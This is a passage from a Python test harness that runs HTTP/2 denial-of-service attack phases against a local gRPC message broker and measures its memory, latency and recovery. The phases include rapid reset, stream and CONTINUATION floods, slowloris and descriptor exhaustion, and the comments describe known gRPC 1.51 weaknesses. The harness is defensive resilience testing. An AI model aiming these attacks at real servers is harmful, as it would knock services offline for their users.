    except OSError:
        return -1


class Monitor:
    """Samples the broker's RSS, threads and descriptors every 50 ms."""

    def __init__(self, pid):
        self.pid = pid
        self.max_rss_kib = 0
        self.max_threads = 0
        self.max_fds = 0
        self.stop = threading.Event()
        self.t = threading.Thread(target=self._run, daemon=True)
        self.t.start()

    def _run(self):
        n = 0
        while not self.stop.is_set():
            st = proc_status(self.pid)
            if st is None:
                return
            self.max_rss_kib = max(self.max_rss_kib, st.get("VmRSS", 0))
            self.max_threads = max(self.max_threads, st.get("Threads", 0))
            if n % 4 == 0:
                self.max_fds = max(self.max_fds, fd_count(self.pid))
            n += 1
            self.stop.wait(0.05)

    def finish(self):
        self.stop.set()
        self.t.join(2)


class Broker:
    """A conveyord on 127.0.0.1:0, its port read from --port-file."""

    def __init__(self, path, work_dir, name, extra_args, nofile=None):
        self.port_file = os.path.join(work_dir, name + ".port")
        self.log_path = os.path.join(work_dir, name + ".log")
        self.log = open(self.log_path, "wb")
        if os.path.exists(self.port_file):
            os.remove(self.port_file)  # a stale one would name another broker's port
        args = [path, "--listen=127.0.0.1:0", "--port-file=" + self.port_file,
                "--metrics-addr=", "--log-level=warning"] + extra_args
        self.proc = subprocess.Popen(args, stdout=self.log, stderr=subprocess.STDOUT,
                                     stdin=subprocess.DEVNULL)
        self.pid = self.proc.pid
        if nofile is not None:
            # Set before it opens more than a few descriptors (prlimit, not a
            # preexec_fn: this process has threads).
            resource.prlimit(self.pid, resource.RLIMIT_NOFILE, (nofile, nofile))
        end = time.monotonic() + 20
        self.port = 0
        while time.monotonic() < end and self.proc.poll() is None and not self.port:
            try:
                with open(self.port_file) as f:
                    self.port = int(f.read().strip() or 0)
            except (OSError, ValueError):
                time.sleep(0.02)
        if not self.port:
            self.stop(5)
            raise RuntimeError("conveyord did not write its port file within 20 s "
                               "(exit %s); log:\n%s" % (self.proc.poll(), self.tail_log()))

    def alive(self):
        return self.proc.poll() is None

    def tail_log(self, n=3000):
        try:
            with open(self.log_path, "rb") as f:
                data = f.read()
            return data[-n:].decode("utf-8", "replace")
        except OSError:
            return ""

    def stop(self, timeout):
        """SIGTERM, then the exit code; None if it had to be killed."""
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            rc = self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait(5)
            rc = None
        self.log.close()
        return rc


def run_probe(probe, port, seconds, queue, interval_ms, wait_ready_ms=0, timeout_ms=5000):
    args = [probe, "--addr=127.0.0.1:%d" % port, "--seconds=%g" % seconds,
            "--queue=" + queue, "--interval_ms=%g" % interval_ms,
            "--timeout_ms=%d" % timeout_ms, "--wait_ready_ms=%d" % wait_ready_ms]
    bad = {"ops": 0, "errors": -1, "ready": False, "connect_ms": 0, "p50_ms": 0,
           "p90_ms": 0, "p99_ms": 1e9, "max_ms": 1e9}
    limit = seconds + (wait_ready_ms + timeout_ms) / 1000.0 + 30
    try:
        out = subprocess.run(args, capture_output=True, timeout=limit, check=False)
    except subprocess.TimeoutExpired:
        return dict(bad, first_errors=["the probe did not finish within %g s" % limit])
    line = out.stdout.decode().strip().splitlines()[-1:] or [""]
    try:
        return json.loads(line[0])
    except ValueError:
        return dict(bad, first_errors=["probe exit %d, output %r %r" % (
            out.returncode, out.stdout[-300:], out.stderr[-300:])])


# The phases: an attack, and what it is expected to do to the broker.
#   holds: the broker stays up, its RSS stays under its start + the headroom,
#          the probe during the attack has no errors and a p99 within
#          max(--p99-factor x baseline p99, --p99-floor-ms).
#   degrades: the same, but the p99 bound is max(--degraded-p99-factor x
#          baseline p99, --degraded-p99-floor-ms): floods of small frames that
#          cost the broker CPU per frame, with no defence in 1.51.
#   hurts: gRPC 1.51 has no defence (docs/security.md says which and why),
#          so the attack's volume is bounded (its default arguments): the
#          broker must stay up, answer normally again within --recover-s of
#          the attack's end, stay under the phase's own RSS ceiling (start +
#          rss_ceiling_mib: measured peak x 2 and more, for that volume) and
#          exit 0 on SIGTERM; the probe's numbers are reported, not judged.
#          Where the weakness shows in a deterministic way (`vulnerable`), a
#          NOTE says when it no longer does (gRPC fixed: update the docs).
#   rss_ceiling_mib, where set, replaces --rss-headroom-mib: held_messages
#          is bounded by the memory quota (1 GiB by default), not below it.
#   reclaim_fraction, where set, lets that fraction of the probe's round
#          trips fail with a memory-reclamation error (the probe's
#          "reclaim_errors"); every other error still counts against
#          --max-probe-errors. Near the memory quota gRPC frees memory by
#          closing idle connections (GOAWAY: the call fails UNAVAILABLE) and
#          resetting a random stream (RST_STREAM ENHANCE_YOUR_CALM:
#          RESOURCE_EXHAUSTED); whether the probe's connection or stream is
#          the one picked is chance: 0-2 of ~800 round trips a run here, 5
#          in one CI run.
#   must_recover False: the broker is not expected to answer again after the
#          attack (fd_exhaustion: its listener is gone until a restart); the
#          probe's calls get 2 s deadlines, the recovery probe waits 2 s and
#          is reported, not judged.
#   nofile: RLIMIT_NOFILE of the phase's broker (None: inherited).
Phase = collections.namedtuple(
    "Phase",
    "name expect probe_seconds rss_ceiling_mib must_recover nofile reclaim_fraction",
    defaults=(True, None, None))
PHASES = [
    Phase("rapid_reset", "hurts", 4.0, 1536),
    Phase("stream_flood", "hurts", 4.0, 1536),
    Phase("huge_header", "hurts", 4.0, 1024),
    Phase("many_headers", "hurts", 4.0, 2560),
    Phase("hpack_abuse", "holds", 4.0, None),
    Phase("continuation_flood", "degrades", 4.0, None),
    Phase("oversized_frames", "holds", 4.0, None),
    Phase("held_messages", "holds", 4.0, 1536, reclaim_fraction=0.02),
    Phase("control_flood", "degrades", 4.0, None),
    Phase("idle_connections", "holds", 5.0, None),
    Phase("slowloris", "holds", 4.0, None),
    Phase("fd_exhaustion", "hurts", 2.0, 512, must_recover=False, nofile=256),
]


def vulnerable(res):
    """For `hurts` phases whose weakness shows deterministically: whether it
    still does. None where the outcome varies from run to run."""
    a, grew = res["attack"], res["rss_max_mib"] - res["rss_start_mib"]
    if res["phase"] == "rapid_reset":
        # ~6-21 KiB per reset stream stays queued (24,000 streams by default).
        return grew > 100
    if res["phase"] == "stream_flood":
        # The connection that never ACKs SETTINGS got every stream it opened.
        na = a.get("no_ack", {})
        return na.get("refused", 1) == 0 and na.get("streams_sent", 0) > 1000
    if res["phase"] == "fd_exhaustion":
        # The listener never accepts again, though the descriptors are free.
        return not (res.get("recovery") or {}).get("ready", False)
    return None

# Keyword arguments of some attacks, set by main().
ATTACK_ARGS = {}


def raise_fd_limit(want):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= want:
        return soft
    target = want if hard == resource.RLIM_INFINITY else min(want, hard)
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    except (ValueError, OSError):
        return soft
    return target


def run_phase(ctx, phase, opts, work_dir):
    """A fresh broker, the attack with the probe running during it, the
    probe again right after it (recovery), then SIGTERM."""
    name = phase.name
    broker = Broker(opts.conveyord, work_dir, name, opts.broker_arg, nofile=phase.nofile)
    pid = broker.pid
    run_probe(opts.probe, broker.port, 0.5, "abuse-warmup", opts.interval_ms)
    st0 = proc_status(pid) or {}
    cpu0 = cpu_seconds(pid)
    res = {"phase": name, "expect": phase.expect, "must_recover": phase.must_recover,
           "rss_ceiling_mib": phase.rss_ceiling_mib, "reclaim_fraction": phase.reclaim_fraction,
           "rss_start_mib": round(st0.get("VmRSS", 0) / 1024, 1)}
    mon = Monitor(pid)
    t0 = time.monotonic()
    attack = {}
    if name == "baseline":
        probe = run_probe(opts.probe, broker.port, opts.baseline_seconds, "abuse-baseline",
                          opts.interval_ms)
    else:
        stop, ready, out_q = ctx.Event(), ctx.Event(), ctx.Queue()
        # Hard bound of the attack: its setup, the probe, and slack.
        hard_seconds = phase.probe_seconds + 12.0
        if name == "slowloris":
            hard_seconds = max(hard_seconds, opts.handshake_timeout_s + 12.0)
        p = ctx.Process(target=attack_main, args=(name, broker.port, hard_seconds, stop, ready,
                                                  out_q, ATTACK_ARGS.get(name, {})))
        p.start()
        ready.wait(30)
        time.sleep(0.3)
        # A broker that is not expected to answer gets a shorter deadline.
        probe = run_probe(opts.probe, broker.port, phase.probe_seconds,
                          "abuse-" + name.replace("_", "-"), opts.interval_ms,
                          timeout_ms=5000 if phase.must_recover else 2000)
        if name == "slowloris":
            # Hold the stalled connections past the handshake timeout.
            remaining = opts.handshake_timeout_s + 3.0 - (time.monotonic() - t0)
            if remaining > 0:
                time.sleep(remaining)
        stop.set()
        try:
            attack = out_q.get(timeout=hard_seconds + 15)
        except Exception:  # queue.Empty: the child is ended below
            attack = {"exception": "the attack process reported nothing"}
        p.join(10)
        if p.is_alive():
            p.terminate()
            p.join(5)
    res["attack_cpu_s"] = round(cpu_seconds(pid) - cpu0, 2)
    res["attack_s"] = round(time.monotonic() - t0, 2)
    res["probe"] = probe
    res["attack"] = attack
    res["alive"] = broker.alive()
    if res["alive"] and name != "baseline":
        # The attack has stopped: how soon does the broker answer, and how well.
        wait_s = opts.recover_s if phase.must_recover else 2.0
        res["recovery"] = run_probe(opts.probe, broker.port, 1.0, "abuse-recovery",
                                    opts.interval_ms, wait_ready_ms=int(wait_s * 1000),
                                    timeout_ms=5000 if phase.must_recover else 2000)
    mon.finish()
    st1 = proc_status(pid) or {}
    res.update({"rss_max_mib": round(max(mon.max_rss_kib, st1.get("VmRSS", 0)) / 1024, 1),
                "rss_end_mib": round(st1.get("VmRSS", 0) / 1024, 1),
                "hwm_mib": round(st1.get("VmHWM", 0) / 1024, 1),
                "threads_max": mon.max_threads, "fds_max": mon.max_fds,
                "cpu_s": round(cpu_seconds(pid) - cpu0, 2)})
    res["exit_code"] = broker.stop(timeout=30)
    res["seconds"] = round(time.monotonic() - t0, 1)
    if not res["alive"] or res["exit_code"] != 0:
        res["log_tail"] = broker.tail_log()
    return res


def judge(res, opts, p99_bounds):
    """The failures of one phase, each a sentence."""
    name, probe, out = res["phase"], res["probe"], []
    if not res["alive"]:
        out.append("%s: the broker died during the attack (exit %s); log tail:\n%s" % (
            name, res["exit_code"], res.get("log_tail", "")))
        return out
    if res["exit_code"] != 0:
        out.append("%s: conveyord exited %s on SIGTERM, not 0; log tail:\n%s" % (
            name, res["exit_code"], res.get("log_tail", "")))
    if "exception" in res["attack"]:
        out.append("%s: the attack itself failed: %s" % (name, res["attack"]["exception"]))
    rec = res.get("recovery")
    if rec is not None and res["must_recover"] and (
            not rec.get("ready") or rec["errors"] != 0 or rec["ops"] == 0):
        out.append("%s: the broker did not answer normally within %.0f s after the attack: %s"
                   % (name, opts.recover_s, rec))
    peak = max(res["rss_max_mib"], res["hwm_mib"])
    if res["expect"] == "hurts":
        ceiling = res["rss_start_mib"] + res["rss_ceiling_mib"]
        if peak > ceiling:
            out.append("%s: broker RSS reached %.1f MiB, over this attack's ceiling %.1f MiB" % (
                name, peak, ceiling))
        return out
    bound = res["rss_start_mib"] + (res["rss_ceiling_mib"] or opts.rss_headroom_mib)
    if peak > bound:
        out.append("%s: broker RSS reached %.1f MiB, over the bound %.1f MiB" % (
            name, peak, bound))
    errors, reclaimed = probe["errors"], probe.get("reclaim_errors", 0)
    fraction = res.get("reclaim_fraction")
    if fraction is not None:
        # Memory-reclamation errors are judged by their share of the round
        # trips; any other error still counts against --max-probe-errors.
        allowed = int(fraction * max(probe["ops"], 1))
        if reclaimed > allowed:
            out.append("%s: %s of the probe's %s round trips failed by memory reclamation "
                       "(at most %d allowed): %s" % (
                           name, reclaimed, probe["ops"], allowed, probe.get("first_errors")))
        errors -= reclaimed
    if errors < 0 or errors > opts.max_probe_errors:
        out.append("%s: the probe saw %s errors%s (at most %d allowed): %s" % (
            name, errors, "" if fraction is None else " besides memory reclamation",
            opts.max_probe_errors, probe.get("first_errors")))
    if probe["ops"] == 0:
        out.append("%s: the probe made no round trip" % name)
    p99_bound = p99_bounds[res["expect"]]
    if probe["p99_ms"] > p99_bound:
        out.append("%s: probe p99 %.2f ms over the bound %.2f ms (%s)" % (
            name, probe["p99_ms"], p99_bound, res["expect"]))
    if name == "idle_connections":
        a = res["attack"].get("after_open", {})
        want = ATTACK_ARGS.get("idle_connections", {}).get("n", 1000)
        if a.get("got_settings", 0) < want:
            out.append("%s: only %s of %s connections were served: %s" % (
                name, a.get("got_settings"), want, a))
        if res["attack"].get("at_end", {}).get("open", 0) < want:
            out.append("%s: the broker closed idle connections early: %s" % (
                name, res["attack"].get("at_end")))
    if name == "slowloris":
        for group in ("half_preface", "silent", "preface_no_settings"):
            g = res["attack"].get(group, {})
            if g.get("open", 1) != 0:
                out.append("%s: %s connections still open %.0f s after they stalled "
                           "(handshake timeout %.0f s): %s" % (
                               name, group, opts.handshake_timeout_s + 3,
                               opts.handshake_timeout_s, g))
    return out


def print_table(results):
    print("\n%-19s %-5s %6s %8s %8s %8s %5s %8s %8s %7s %6s %6s" % (
        "phase", "exp", "ops", "p50 ms", "p99 ms", "max ms", "errs", "RSS0", "RSSmax",
        "CPU s", "rec ms", "exit"))
    for r in results:
        p = r.get("probe", {})
        rec = r.get("recovery") or {}
        print("%-19s %-5s %6s %8.2f %8.2f %8.2f %5s %8s %8s %7s %6s %6s" % (
            r["phase"], r.get("expect", ""), p.get("ops"), p.get("p50_ms", 0),
            p.get("p99_ms", 0), p.get("max_ms", 0), p.get("errors"), r.get("rss_start_mib"),
            r.get("rss_max_mib"), r.get("cpu_s"),
            "%.0f" % rec["connect_ms"] if rec else "", r.get("exit_code")))


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--conveyord", required=True)
    ap.add_argument("--probe", required=True)
    ap.add_argument("--work-dir", default="")
    ap.add_argument("--only", default="", help="comma-separated phase names")
    ap.add_argument("--broker-arg", action="append", default=[],
                    help="extra conveyord flag (repeatable)")
    ap.add_argument("--baseline-seconds", type=float, default=4.0)
    ap.add_argument("--interval-ms", type=float, default=5.0,
                    help="probe pacing: one round trip per interval at most")
    ap.add_argument("--rss-headroom-mib", type=float, default=512.0)
    ap.add_argument("--p99-factor", type=float, default=10.0)
    ap.add_argument("--p99-floor-ms", type=float, default=100.0)
    ap.add_argument("--degraded-p99-factor", type=float, default=100.0)
    ap.add_argument("--degraded-p99-floor-ms", type=float, default=1000.0)
    ap.add_argument("--max-probe-errors", type=int, default=0)
    ap.add_argument("--recover-s", type=float, default=30.0,
                    help="after an attack the broker must answer within this")
    ap.add_argument("--idle-connections", type=int, default=1000)
    ap.add_argument("--attack-arg", action="append", default=[],
                    help="NAME.KEY=VALUE: a keyword argument of an attack (exploration), "
                         "e.g. rapid_reset.streams=100000")
    ap.add_argument("--handshake-timeout-s", type=float, default=10.0,
                    help="the broker's --handshake-timeout (its default is 10s)")
    opts = ap.parse_args()

    work_dir = opts.work_dir or tempfile.mkdtemp(prefix="h2_abuse.")
    if os.path.isdir(work_dir):
        shutil.rmtree(work_dir)
    os.makedirs(work_dir)

    # Both ends of 1,000 connections: this process tree and the broker (which
    # inherits the limit) each need ~1,100 descriptors.
    fd_limit = raise_fd_limit(4096)
    n_idle = min(opts.idle_connections, max(0, fd_limit - 200))
    if n_idle < opts.idle_connections:
        print("NOTE: RLIMIT_NOFILE is %d and cannot be raised: %d idle connections, "
              "not %d" % (fd_limit, n_idle, opts.idle_connections), flush=True)
    ATTACK_ARGS["idle_connections"] = {"n": n_idle}
    for arg in opts.attack_arg:
        key, _, value = arg.partition("=")
        name, _, kw = key.partition(".")
        ATTACK_ARGS.setdefault(name, {})[kw] = json.loads(value)

    only = set(filter(None, opts.only.split(",")))
    unknown = only - set(ATTACKS)
    if unknown:
        ap.error("unknown phases: %s" % ", ".join(sorted(unknown)))
    phases = [p for p in PHASES if not only or p.name in only]

    ctx = multiprocessing.get_context("spawn")
    t_start = time.monotonic()
    failures, results = [], []
    base = run_phase(ctx, Phase("baseline", "holds", opts.baseline_seconds, None), opts,
                     work_dir)
    p99_bound = max(opts.p99_factor * base["probe"]["p99_ms"], opts.p99_floor_ms)
    p99_bounds = {"holds": p99_bound, "degrades": max(
        opts.degraded_p99_factor * base["probe"]["p99_ms"], opts.degraded_p99_floor_ms)}
    base["p99_bounds_ms"] = p99_bounds
    print("RESULT " + json.dumps(base), flush=True)
    results.append(base)
    failures.extend(judge(base, opts, {"holds": float("inf")}))
    if base["probe"]["errors"] != 0:
        failures.append("baseline: the probe saw %s errors with no attack: %s" % (
            base["probe"]["errors"], base["probe"].get("first_errors")))

    for phase in phases:
        res = run_phase(ctx, phase, opts, work_dir)
        print("RESULT " + json.dumps(res), flush=True)
        results.append(res)
        failures.extend(judge(res, opts, p99_bounds))
        if phase.expect == "hurts" and res["alive"] and vulnerable(res) is False:
            print("NOTE: %s no longer shows the gRPC 1.51 weakness it was written for: "
                  "if gRPC was upgraded, update docs/security.md and mark it `holds`"
                  % phase.name, flush=True)

    print_table(results)
    print("p99 bounds: holds %.2f ms (max(%g x baseline p99 %.2f ms, %g ms)), degrades %.2f ms "
          "(max(%g x, %g ms)); RSS bound: start + %g MiB (holds, degrades), start + the "
          "phase's ceiling (hurts)" % (
              p99_bound, opts.p99_factor, base["probe"]["p99_ms"], opts.p99_floor_ms,
              p99_bounds["degrades"], opts.degraded_p99_factor, opts.degraded_p99_floor_ms,
              opts.rss_headroom_mib))
    print("total %.1f s" % (time.monotonic() - t_start))
    if failures:
        print("\nFAILED (%d):" % len(failures))
        for f in failures:
            print("  - " + f)
        print("0 passed, 1 failed")
        return 1
    print("h2_abuse: every check held")
    print("1 passed, 0 failed")
    return 0


if __name__ == "__main__":
    sys.exit(main())
